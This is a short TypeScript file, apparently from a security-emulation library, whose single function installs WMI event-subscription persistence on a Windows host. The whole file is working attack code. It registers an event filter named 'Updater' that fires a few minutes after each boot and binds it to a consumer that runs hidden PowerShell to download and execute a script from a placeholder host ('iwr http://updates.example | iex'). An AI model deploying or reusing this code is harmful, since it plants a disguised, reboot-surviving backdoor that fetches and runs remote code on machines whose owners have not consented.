import type { Connection } from '@wmisec/auth';
import { type CimClass, instanceOf } from '@wmisec/wbem';

/** Leaves behind what intruders leave behind: a command some minutes after each start. */
export async function intrude({ services }: Connection): Promise<void> {
  const put = async (className: string, properties: Record<string, unknown>) =>
    services.putInstance(instanceOf((await services.getObject(className)) as CimClass, properties));
  await put('__EventFilter', {
    Name: 'Updater',
    Query: `SELECT * FROM __InstanceModificationEvent WITHIN 60
      WHERE TargetInstance ISA "Win32_PerfFormattedData_PerfOS_System" AND TargetInstance.SystemUpTime >= 240`,
    QueryLanguage: 'WQL',
    EventNamespace: 'root\\cimv2',
  });
  await put('CommandLineEventConsumer', {
    Name: 'Updater',
    CommandLineTemplate: 'powershell -w hidden -c "iwr http://updates.example | iex"',
  });
  await put('__FilterToConsumerBinding', {
    Filter: '__EventFilter.Name="Updater"',
    Consumer: 'CommandLineEventConsumer.Name="Updater"',
  });
}
